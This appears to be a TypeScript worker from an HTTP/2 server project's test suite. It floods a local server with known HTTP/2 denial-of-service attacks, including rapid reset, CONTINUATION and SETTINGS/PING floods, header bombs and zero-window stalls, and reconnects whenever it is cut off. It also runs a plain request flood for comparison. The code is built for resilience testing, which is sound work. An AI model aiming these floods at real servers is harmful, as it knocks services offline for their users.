// One client that attacks as fast as it can over HTTP/2, and connects again whenever it is cut off; or, to compare with, a flood of
// ordinary requests. A process that is told by a message what to do, and by the next one to stop.
import { connect, type Socket } from 'node:net'
import { flag, frameType, setting } from '../../../src/http2/frames.ts'
import {
  block,
  data,
  frame,
  get,
  headers,
  ping,
  post,
  preface,
  rstStream,
  settings,
  windowUpdate,
} from '../../../test/help/http2.ts'

export type AttackName = keyof typeof attacks

const { endHeaders, endStream } = flag
const streams = Array.from({ length: 2_000 }, (_, i) => 2 * i + 1)
const many = (bytes: Buffer) => Buffer.concat(Array<Buffer>(4_000).fill(bytes))

/** What is sent on a new connection, and then again and again. */
export const attacks = {
  'rapid reset': [Buffer.concat(streams.flatMap(id => [headers(id), rstStream(id)])), null],
  'resets that we are made to send': [
    Buffer.concat(streams.flatMap(id => [headers(id), windowUpdate(id, 0)])),
    null,
  ],
  'malformed heads': [Buffer.concat(streams.map(id => headers(id, [...get, ['connection', 'close']]))), null],
  'CONTINUATION without end': [headers(1, get, endStream), many(frame(frameType.continuation, 0, 1))],
  SETTINGS: [settings(), many(settings([setting.initialWindowSize, 1], [setting.initialWindowSize, 65_535]))],
  PING: [ping, many(ping)],
  WINDOW_UPDATE: [headers(1), many(windowUpdate(0, 1))],
  PRIORITY: [headers(1), many(frame(frameType.priority, 0, 77, Buffer.alloc(5)))],
  'empty DATA': [headers(1, post, endHeaders), many(data(1, ''))],
  'header bombs': [
    Buffer.concat([
      frame(
        frameType.headers,
        endHeaders | endStream,
        1,
        Buffer.concat([
          block(...get),
          Buffer.from([0x40, 1, 0x62, 0x7f, 0xa1, 0x1e]),
          Buffer.alloc(4_000, 'a'),
        ]),
      ),
      ...streams
        .slice(1, 200)
        .map(id =>
          frame(
            frameType.headers,
            endHeaders | endStream,
            id,
            Buffer.concat([block(...get), Buffer.alloc(12_000, 0xbe)]),
          ),
        ),
    ]),
    null,
  ],
  'windows that stay closed': [
    Buffer.concat([
      settings([setting.initialWindowSize, 0]),
      ...streams.slice(0, 128).map(id => headers(id)),
    ]),
    windowUpdate(1, 1),
  ],
  garbage: [Buffer.alloc(65_536, 'x'), null],
} as const satisfies Record<string, readonly [Buffer, Buffer | null]>

/** How an attacker goes about it. */
export type Orders =
  | { readonly kind: 'client'; readonly port: number; readonly name: AttackName }
  | { readonly kind: 'origin'; readonly port: number; readonly host: string }
  /** So many connections a second with so many bytes of ordinary requests each. */
  | { readonly kind: 'plain'; readonly port: number; readonly rate: number; readonly bytes: number }

export interface Counts {
  connections: number
  /** Bytes that the system has taken. */
  bytes: number
}

const counts: Counts = { connections: 0, bytes: 0 }
let isOver = false
const open = new Set<Socket>()

process.once('message', (orders: Orders) => {
  if (orders.kind === 'client') attackAsClient(orders.port, attacks[orders.name])
  else if (orders.kind === 'plain') askPlainly(orders.port, orders.rate, orders.bytes)
  else provoke(orders.port, orders.host)
  process.once('message', () => {
    isOver = true
    for (const socket of open) socket.destroy()
    for (const socket of open) count(socket)
    process.send!(counts)
  })
})

function attackAsClient(port: number, attack: readonly [Buffer, Buffer | null]): void {
  const [first, again] = attack
  const begin = Buffer.concat([preface, settings(), first])
  const socket = connectTo(port, () => attackAsClient(port, attack))
  const send = () => {
    if (!isOver && socket.writable && socket.write(again!)) setImmediate(send)
  }
  socket.write(begin)
  if (again === null) return
  socket.on('drain', send)
  setImmediate(send)
}

function askPlainly(port: number, rate: number, bytes: number): void {
  const request = 'GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n'
  const text = Buffer.from(request.repeat(Math.max(1, Math.round(bytes / request.length))))
  const began = performance.now()
  let due = 0
  const timer = setInterval(() => {
    if (isOver) return clearInterval(timer)
    for (; due < ((performance.now() - began) * rate) / 1000; due++) connectTo(port, () => {}).end(text)
  }, 1)
}

/** Asks for what an origin that attacks has, one request after the other. */
function provoke(port: number, host: string): void {
  const socket = connectTo(port, () => provoke(port, host))
  socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`)
}

function connectTo(port: number, closed: () => void): Socket {
  const socket = connect(port, '127.0.0.1')
  counts.connections++
  open.add(socket)
  return socket
    .on('error', () => {})
    .on('close', () => {
      count(socket)
      if (!isOver) closed()
    })
    .resume()
}

function count(socket: Socket): void {
  if (open.delete(socket)) counts.bytes += socket.bytesWritten - socket.writableLength
}
